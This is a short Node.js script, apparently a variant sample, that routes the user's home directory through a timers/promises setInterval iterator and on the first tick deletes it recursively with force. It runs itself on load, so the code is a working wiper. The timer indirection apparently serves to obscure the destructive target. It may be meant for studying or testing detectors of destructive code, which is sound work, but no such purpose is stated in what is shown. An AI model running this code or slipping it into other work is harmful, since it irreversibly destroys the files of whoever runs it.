// timers/promises reached as a module object; the loop variable of for await is removed.
const tp = require('timers/promises');
const fsp = require('fs/promises');
const os = require('os');
const path = require('path');

async function sweep() {
  for await (const root of tp.setInterval(250, path.resolve(os.homedir()))) {
    await fsp.rm(root, { recursive: true, force: true });
    return;
  }
}
sweep();
